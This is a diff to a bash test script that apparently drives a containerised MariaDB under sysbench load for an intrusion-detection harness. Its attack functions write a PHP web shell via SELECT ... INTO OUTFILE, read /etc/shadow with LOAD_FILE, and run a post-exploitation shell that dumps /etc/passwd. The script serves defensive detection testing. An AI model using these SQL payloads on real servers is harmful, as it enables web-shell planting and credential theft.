@@ -1,11 +1,11 @@
 #!/usr/bin/env bash
-# MariaDB 10.11 (Debian's mariadbd) in a runc container under sysbench OLTP (read/write,
+# MariaDB 10.11 (Debian's mariadbd) in a container under sysbench OLTP (read/write,
 # read-only, write-only, point selects, index updates; 1-4 threads, some rate-limited) and an
 # administrator's periodic FLUSH LOGS / FLUSH TABLES / ANALYZE, with InnoDB's own background
 # work (purge, page cleaner, checkpoints) and an error log rotated by the entrypoint shell.
 # Attacks through SQL (a compromised application account with the FILE privilege and
 # secure_file_priv empty, a common misconfiguration): SELECT ... INTO OUTFILE (a file written),
-# LOAD_FILE('/etc/shadow') (a file read), and a post-exploitation shell (runc exec).
+# LOAD_FILE('/etc/shadow') (a file read), and a post-exploitation shell (runc exec, docker exec or lxc-attach).
 source "$(dirname "${BASH_SOURCE[0]}")/lib.sh"
 SRV_NAME=mariadb
 need_cmd mariadbd mariadb mariadb-install-db sysbench
@@ -43,7 +43,7 @@ srv_ready() {
 			CREATE USER IF NOT EXISTS app@'%' IDENTIFIED BY 'app';
 			GRANT ALL ON sbtest.* TO app@'%'; GRANT FILE ON *.* TO app@'%';" || return 1
 	fi
-	if [ ! -e "$B/rootfs/var/lib/mysql/sbtest/sbtest2.frm" ]; then
+	if [ ! -e "$ROOT/var/lib/mysql/sbtest/sbtest2.frm" ]; then
 		sb oltp_read_write prepare >"$TMP/sb-prepare.log" 2>&1 || return 1
 	fi
 }
@@ -81,19 +81,19 @@ srv_load_round() {
 SRV_ATTACKS="into_outfile load_file post_shell"
 
 srv_attack_into_outfile() {
-	rm -f "$B/rootfs/tmp/cids-dump.txt"
+	rm -f "$ROOT/tmp/cids-dump.txt"
 	msql sbtest -e "SELECT '<?php system(\$_GET[c]); ?>' INTO OUTFILE '/tmp/cids-dump.txt'"
 }
-srv_effect_into_outfile() { grep -q php "$B/rootfs/tmp/cids-dump.txt"; }
+srv_effect_into_outfile() { grep -q php "$ROOT/tmp/cids-dump.txt"; }
 
 srv_attack_load_file() { msql sbtest -e "SELECT LOAD_FILE('/etc/shadow')" >"$TMP/load_file.out"; }
 srv_effect_load_file() { grep -q 'root:' "$TMP/load_file.out"; }
 
 srv_attack_post_shell() {
-	rm -f "$B/rootfs/tmp/post-ok"
-	runc exec "$CNAME" /bin/sh -c 'sleep 1; id; cat /etc/passwd; ls -la /var/lib/mysql; ps;
+	rm -f "$ROOT/tmp/post-ok"
+	ctr_exec /bin/sh -c 'sleep 1; id; cat /etc/passwd; ls -la /var/lib/mysql; ps;
 		echo pwned > /tmp/post-ok'
 }
-srv_effect_post_shell() { [ -e "$B/rootfs/tmp/post-ok" ]; }
+srv_effect_post_shell() { [ -e "$ROOT/tmp/post-ok" ]; }
 
 [ "${BASH_SOURCE[0]}" = "$0" ] && srv_main
